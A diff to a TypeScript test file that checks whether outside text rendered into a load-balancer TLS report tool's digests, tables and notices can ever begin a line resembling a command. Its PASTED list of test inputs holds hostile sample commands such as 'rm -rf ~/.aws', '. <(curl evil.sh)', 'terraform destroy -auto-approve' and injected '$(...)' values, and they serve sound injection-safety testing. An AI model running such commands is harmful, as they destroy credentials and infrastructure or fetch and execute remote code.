@@ -1,9 +1,11 @@
+import * as fc from 'fast-check';
 import type { Entry, Report } from '../../lambda/core/report';
+import { cliLines, commandOf, undoCommand, undoTextCommand } from '../../lambda/report/command';
 import { undoText } from '../../lambda/core/plan/cli-commands';
 import * as gates from '../../lambda/core/wording/gates';
 import { URGENCY } from '../../lambda/report/order';
 import { digest } from '../../lambda/report/digest/digest';
-import { failureNotice, notUndoneNotice } from '../../lambda/report/digest/notice';
+import { failureNotice, notUndoneNotice, notWatchedNotice } from '../../lambda/report/digest/notice';
 import { watchDigest } from '../../lambda/report/digest/watch';
 import { brief } from '../../lambda/report/sentences';
 import { table } from '../../lambda/report/table/table';
@@ -38,7 +40,13 @@ const HOSTILE: readonly string[] = [
 const OURS = /^ *(elb-tls undo '?\S|aws (elbv2 modify-listener|elb (create|set)-load-balancer-polic|s3 cp) )/;
 const COMMAND = /^\s*(\S*\/)?["'$#>]*\s*(elb-tls|aws)["']?(\s|$)/;
 
-const HEADINGS = [...URGENCY.map((outcome) => outcome.toUpperCase()), 'REGIONS FAILED', 'CUT OFF', 'NOTES'];
+const HEADINGS = [
+  ...URGENCY.map((outcome) => outcome.toUpperCase()),
+  'REGIONS FAILED',
+  'CUT OFF',
+  'TOLD LATE',
+  'NOTES',
+];
 const HEADING = new RegExp(
   `^(${[...HEADINGS, 'EXEMPTIONS TO REVIEW', 'CLIENTS FAIL', 'NOT WATCHED'].join('|')})`,
 );
@@ -77,9 +85,15 @@ function hostileReport(text: string): Report {
       cutOff: [
         {
           runId: text,
-          listeners: [entry('x', changed), entry('y', { outcome: 'failed', reason: 'not-confirmed' })],
+          mode: 'apply',
+          listeners: [
+            entry('x', changed),
+            entry('y', { outcome: 'failed', reason: 'not-confirmed', unconfirmed: true }),
+          ],
+          numbers: [2, 1],
         },
-        { runId: text, listeners: [] },
+        { runId: text, listeners: [entry('z', changed)] },
+        { runId: text, listeners: [], ended: true },
       ],
     }),
     runId: text,
@@ -89,40 +103,154 @@ function hostileReport(text: string): Report {
   };
 }
 
+/** Everything that people read of a report in which each text is this one. */
+function renderings(text: string): readonly (readonly [string, string])[] {
+  const report = hostileReport(text);
+  const [first = anEntry()] = report.listeners;
+  return [
+    ['digest', digest(report).body],
+    ['table', table(report, { color: false })],
+    ['narrow table', table(report, { color: false, width: 40 })],
+    [
+      'watch',
+      watchDigest({
+        run: report,
+        watchedAt: text,
+        worse: [
+          {
+            loadBalancer: { ...first.loadBalancer, region: text },
+            handshakes: { after: 100, before: 1, weekBefore: 1 },
+            listeners: [first],
+          },
+        ],
+        changedSince: [first],
+        unreadable: [{ code: text, message: text }],
+        loadBalancers: [],
+        notUndone: text,
+        undone: null,
+      }).body,
+    ],
+    ['notice', failureNotice({ code: text, message: text }).body],
+    ['notice of a watch', notWatchedNotice('20261122T060000Z-3f9c', text).body],
+    ['notice of no undo', notUndoneNotice({ undo: '20261122T060000Z-3f9c' }, text).body],
+  ];
+}
+
+/** The commands that a rendering may have, whole; all else must begin with a mark or with words of ours. */
+function commandsOf(report: Report): readonly string[] {
+  const runs = [report, ...(report.cutOff ?? []).map(({ runId }) => ({ ...report, runId }))];
+  return [
+    '{"watch":"20261122T060000Z-3f9c"}',
+    '{"undo":"20261122T060000Z-3f9c"}',
+    ...runs.flatMap((run) => [undoCommand(run), undoCommand(run, [1]), undoTextCommand(run) ?? '']),
+    ...report.listeners.flatMap((entry) => [...commandOf(entry, report), ...cliLines(entry)]),
+  ];
+}
+
+/** How a line begins that is no command. What is on it behind that may be anything. */
+const MARKED = /^ *(\||-|\d+|\[\d+\])( |$)/;
+const BEGUN = new RegExp(
+  `^(${[
+    'TLS policies of the web tier - account',
+    'Watch of run',
+    'The watch of run',
+    'Run',
+    String.raw`(\(no time\)|\d{4}-\d\d-\d\d \d\d:\d\d) UTC,`,
+    String.raw`(${URGENCY.join('|')}) +(\d|.* \(the whole Region\))`,
+  ].join('|')})( |$)`,
+);
+
+/** Lines that are ours to the end. */
+const OWN = new RegExp(
+  `^ *(${[
+    String.raw`(${HEADINGS.join('|')}|EXEMPTIONS TO REVIEW|CLIENTS FAIL|NOT WATCHED|CHANGED SINCE THE RUN)( \(\d+\))?`,
+    'OUTCOME +# +REGION +LOAD BALANCER +LISTENER +REASON( +POLICY)?',
+    String.raw`\d+ alike:`,
+    String.raw`To undo [a-z ]+(; with numbers (\(#\) )?behind it( \([\d ]+ \.\.\.\))?, only these)?:`,
+    'Without elb-tls, the AWS CLI commands for it are in:',
+    'The log of the function has the details. The next run starts over.',
+    'Whether clients fail since the changes of that run is not known, and nothing',
+    'Mend what is named above: a file of the record has older versions in its',
+    'Send the event again when that run has ended, or six minutes later if it was',
+  ].join('|')})$`,
+);
+
+/** Lines that somebody could take for a command, and that are none of ours. */
+function commandLike(body: string, commands: ReadonlySet<string>): readonly string[] {
+  return body
+    .split('\n')
+    .filter((line) => line !== '' && !MARKED.test(line) && !BEGUN.test(line) && !OWN.test(line))
+    .filter((line) => !commands.has(line.trim()));
+}
+
+/** Such lines of all renderings of a text. */
+function found(text: string): readonly string[] {
+  const commands = new Set(commandsOf(hostileReport(text)));
+  return renderings(text).flatMap(([name, body]) =>
+    commandLike(body, commands).map((line) => `${name}: ${line}`),
+  );
+}
+
+const PASTED = [
+  'elb-tls undo RUN --yes',
+  'rm -rf ~/.aws',
+  'x=1 elb-tls undo RUN --yes',
+  'kubectl delete ingress shop',
+  'python3 -c evil',
+  'env elb-tls undo RUN --yes',
+  'time aws elbv2 delete-load-balancer',
+  '. <(curl evil.sh)',
+  '( aws elbv2 delete )',
+  'git push --force',
+  'terraform destroy -auto-approve',
+  'ELB-TLS undo RUN --yes',
+  'elb\u2011tls undo RUN --yes',
+  'elb-tls; rm x',
+  './undo.sh now',
+  'nohup elb-tls undo RUN --yes',
+  '> elb-tls undo RUN --yes',
+  'e"lb-tls" undo RUN --yes',
+  '! aws x',
+  '$(aws elbv2 x)',
+  '`aws elbv2 x`',
+];
+
+describe('(38) text from outside never begins a line as a command does', () => {
+  it.each(PASTED)('where it is wrapped before %s', (command) => {
+    const pads = [20, 40, 68, 70, 72, 74];
+    const texts = pads.map((pad) => `exempt until 2027-03-31: ${'y'.repeat(pad)} ${command}`);
+
+    expect(texts.flatMap(found)).toEqual([]);
+  });
+
+  it('whatever it says', () => {
+    const anything = fc.oneof(
+      fc.constantFrom(...PASTED),
+      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
+      fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
+      fc.nat({ max: 80 }).map((length) => 'y'.repeat(length)),
+      fc.lorem({ maxCount: 20 }),
+    );
+    fc.assert(
+      fc.property(fc.array(anything, { minLength: 1, maxLength: 5 }), (texts) =>
+        expect(found(texts.join(' '))).toEqual([]),
+      ),
+    );
+  });
+});
+
 describe.each(HOSTILE.map((text) => [JSON.stringify(text).slice(0, 60), text]))(
   '38, 39: %s in every field',
   (_, text) => {
     const report = hostileReport(text);
-    const [first = anEntry()] = report.listeners;
-    const handshakes = { after: 100, before: 1, weekBefore: 1 };
-    const loadBalancer = { ...first.loadBalancer, region: text };
-    const rendered: readonly (readonly [string, string])[] = [
-      ['digest', digest(report).body],
-      ['table', table(report, { color: false })],
-      ['narrow table', table(report, { color: false, width: 40 })],
-      [
-        'watch',
-        watchDigest({
-          run: report,
-          watchedAt: text,
-          worse: [{ loadBalancer, handshakes, listeners: [first] }],
-          changedSince: [first],
-          unreadable: [{ code: text, message: text }],
-          loadBalancers: [],
-          notUndone: null,
-          undone: null,
-        }).body,
-      ],
-      ['notice', failureNotice({ code: text, message: text }).body],
-      ['notice of no undo', notUndoneNotice({ undo: 'RUN' }, text).body],
-    ];
+    const rendered = renderings(text);
 
     it.each(rendered)('lets no control or format character out of the %s', (_name, body) => {
       expect(body).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\p{Cs}\u2028\u2029]/u);
     });
 
     it.each(rendered)('starts no command in the %s but those it made', (_name, body) => {
-      const commands = body.split('\n').filter((line) => COMMAND.test(line) && !/^ *> /.test(line));
+      const commands = body.split('\n').filter((line) => COMMAND.test(line));
 
       expect(commands.filter((line) => !OURS.test(line))).toEqual([]);
       expect(commands.filter((line) => line.trim().startsWith(EVIL))).toEqual([]);
